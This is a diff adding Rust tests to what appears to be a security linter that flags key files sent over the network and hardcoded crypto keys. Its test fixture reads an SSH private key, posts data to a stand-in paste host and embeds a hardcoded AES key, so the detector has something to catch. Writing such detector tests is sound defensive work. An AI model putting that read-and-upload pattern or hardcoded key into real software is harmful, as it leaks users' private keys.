@@ -429,3 +429,225 @@ pub fn merge(result: &mut ScanResult, deep: DeepFindings) {
         .findings
         .sort_by(|a, b| (&a.path, a.start, a.rule.id).cmp(&(&b.path, b.start, b.rule.id)));
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::walk::scan_paths;
+    use serde_json::json;
+
+    /// A workspace whose `src/upload.rs` reads a key file in one function and sends
+    /// it in another: what only the deep tier sees. Line 4 also holds a hardcoded key
+    /// that the syntactic scan reports (it reaches a cipher) under the deep tier's rule
+    /// id.
+    const UPLOAD: &str = "\
+pub fn key() -> Vec<u8> {
+    std::fs::read(\"/home/dev/.ssh/id_ed25519\").unwrap_or_default()
+}
+pub const SESSION_KEY: &[u8; 32] = b\"k3Jd9a0QmZ7xLw2pR5tY8uV1bN4cE6gH\";
+pub fn send(client: &reqwest::blocking::Client, body: Vec<u8>) {
+    let _ = client.post(\"https://paste.example.net\").body(body).send();
+}
+pub fn session_cipher() -> aes_gcm::Aes256Gcm {
+    aes_gcm::Aes256Gcm::new_from_slice(SESSION_KEY).expect(\"32 bytes\")
+}
+";
+
+    fn workspace() -> tempfile::TempDir {
+        let dir = tempfile::tempdir().expect("tempdir");
+        std::fs::create_dir(dir.path().join("src")).expect("src");
+        std::fs::write(dir.path().join("src/upload.rs"), UPLOAD).expect("write");
+        dir
+    }
+
+    fn span(file: &str, text: &str, needle: &str, primary: bool) -> serde_json::Value {
+        let start = text.find(needle).expect("needle in fixture");
+        json!({
+            "file_name": file,
+            "byte_start": start,
+            "byte_end": start + needle.len(),
+            "is_primary": primary,
+        })
+    }
+
+    /// The `message` of a `compiler-message` line, as rustc writes it for a lint of
+    /// the library: primary span at the sink, the source as a note, a help line.
+    fn key_file_message() -> serde_json::Value {
+        json!({
+            "message": "the contents of a key file are sent over the network",
+            "code": { "code": "key_file_to_network", "explanation": null },
+            "level": "warning",
+            "spans": [span("src/upload.rs", UPLOAD, ".body(body)", true)],
+            "children": [
+                {
+                    "message": "the key file is read here",
+                    "level": "note",
+                    "spans": [span("src/upload.rs", UPLOAD, "std::fs::read(", false)],
+                    "children": []
+                },
+                {
+                    "message": "keep key files on the machine",
+                    "level": "help",
+                    "spans": [],
+                    "children": []
+                }
+            ]
+        })
+    }
+
+    #[test]
+    fn a_lint_diagnostic_becomes_a_finding_with_its_flow_and_help() {
+        let dir = workspace();
+        let root = dir.path().canonicalize().expect("canonical");
+        let mut files = Files::new(&root, &root);
+        let mut deep = DeepFindings::default();
+        to_finding(
+            &key_file_message(),
+            &mut files,
+            &Settings::default(),
+            &mut deep,
+        )
+        .expect("known lint");
+        let [finding] = deep.findings.as_slice() else {
+            panic!("one finding expected, got {:?}", deep.findings);
+        };
+        assert_eq!(finding.rule.id, "data-upload/key-file-to-network");
+        assert_eq!(finding.path, "src/upload.rs");
+        assert_eq!(finding.start.line, 6);
+        assert_eq!(finding.flow.len(), 1);
+        assert_eq!(finding.flow[0].start.line, 2);
+        assert_eq!(finding.flow[0].note, "the key file is read here");
+    }
+
+    #[test]
+    fn diagnostics_of_other_lints_of_disabled_rules_and_outside_the_root_are_dropped() {
+        let dir = workspace();
+        let root = dir.path().canonicalize().expect("canonical");
+        let mut deep = DeepFindings::default();
+
+        let mut rustc_warning = key_file_message();
+        rustc_warning["code"]["code"] = json!("unused_variables");
+        let mut dependency = key_file_message();
+        dependency["spans"][0]["file_name"] = json!("/root/.cargo/registry/src/reqwest/lib.rs");
+        for message in [rustc_warning, dependency] {
+            to_finding(
+                &message,
+                &mut Files::new(&root, &root),
+                &Settings::default(),
+                &mut deep,
+            )
+            .expect("skipped, not an error");
+        }
+        let ignoring = Settings {
+            rules: crate::RuleFilter {
+                select: Vec::new(),
+                ignore: vec!["data-upload".to_owned()],
+            },
+            ..Settings::default()
+        };
+        let mut files = Files::new(&root, &root);
+        to_finding(&key_file_message(), &mut files, &ignoring, &mut deep).expect("skipped");
+        assert!(deep.findings.is_empty(), "{:?}", deep.findings);
+    }
+
+    #[test]
+    fn a_suppressed_deep_finding_is_dropped_and_its_comment_counts_as_used() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        std::fs::create_dir(dir.path().join("src")).expect("src");
+        let suppressed = UPLOAD.replace(
+            "    let _ = client.post",
+            "    // trustlint:allow(data-upload/key-file-to-network) -- the user attaches this key to a support ticket\n    let _ = client.post",
+        );
+        std::fs::write(dir.path().join("src/upload.rs"), &suppressed).expect("write");
+        let root = dir.path().canonicalize().expect("canonical");
+        let mut message = key_file_message();
+        message["spans"] = json!([span("src/upload.rs", &suppressed, ".body(body)", true)]);
+        message["children"][0]["spans"] =
+            json!([span("src/upload.rs", &suppressed, "std::fs::read(", false)]);
+        let mut deep = DeepFindings::default();
+        to_finding(
+            &message,
+            &mut Files::new(&root, &root),
+            &Settings::default(),
+            &mut deep,
+        )
+        .expect("known lint");
+        assert!(deep.findings.is_empty(), "{:?}", deep.findings);
+        assert_eq!(deep.used_suppressions.len(), 1);
+
+        // The syntactic scan alone calls that comment unused; merged, it is not.
+        let mut result = scan_paths(&root, std::slice::from_ref(&root), &Settings::default(), 1);
+        let unused = trustlint_core::rules::trustlint::unused_suppression::RULE.id;
+        assert!(result.findings.iter().any(|f| f.rule.id == unused));
+        merge(&mut result, deep);
+        assert!(!result.findings.iter().any(|f| f.rule.id == unused));
+    }
+
+    #[test]
+    fn merging_keeps_the_syntactic_finding_on_the_same_line_and_adds_new_ones_in_order() {
+        let dir = workspace();
+        let root = dir.path().canonicalize().expect("canonical");
+        let mut result = scan_paths(&root, std::slice::from_ref(&root), &Settings::default(), 1);
+        let syntactic_key = result
+            .findings
+            .iter()
+            .find(|f| f.rule.id == "credentials/hardcoded-crypto-key")
+            .cloned()
+            .expect("the syntactic scan reports the const key");
+
+        let mut deep = DeepFindings::default();
+        let mut files = Files::new(&root, &root);
+        to_finding(
+            &key_file_message(),
+            &mut files,
+            &Settings::default(),
+            &mut deep,
+        )
+        .expect("known lint");
+        let mut same_key = key_file_message();
+        same_key["code"]["code"] = json!("hardcoded_crypto_key");
+        same_key["children"] = json!([]);
+        same_key["spans"] = json!([span("src/upload.rs", UPLOAD, "b\"k3J", true)]);
+        to_finding(&same_key, &mut files, &Settings::default(), &mut deep).expect("known lint");
+        assert_eq!(deep.findings.len(), 2);
+
+        let before = result.findings.len();
+        merge(&mut result, deep);
+        assert_eq!(result.findings.len(), before + 1, "{:#?}", result.findings);
+        let keys: Vec<&Finding> = result
+            .findings
+            .iter()
+            .filter(|f| f.rule.id == "credentials/hardcoded-crypto-key")
+            .collect();
+        assert_eq!(keys.len(), 1);
+        assert_eq!(
+            keys[0].message, syntactic_key.message,
+            "the syntactic one is kept"
+        );
+        let positions: Vec<_> = result.findings.iter().map(|f| (&f.path, f.start)).collect();
+        assert!(positions.is_sorted(), "{positions:?}");
+        assert!(
+            result
+                .findings
+                .iter()
+                .any(|f| f.rule.id == "data-upload/key-file-to-network" && f.start.line == 6)
+        );
+    }
+
+    #[test]
+    fn deep_findings_in_files_the_scan_did_not_read_are_dropped() {
+        let dir = workspace();
+        let root = dir.path().canonicalize().expect("canonical");
+        let mut deep = DeepFindings::default();
+        to_finding(
+            &key_file_message(),
+            &mut Files::new(&root, &root),
+            &Settings::default(),
+            &mut deep,
+        )
+        .expect("known lint");
+        let mut result = ScanResult::default();
+        merge(&mut result, deep);
+        assert!(result.findings.is_empty(), "{:?}", result.findings);
+    }
+}
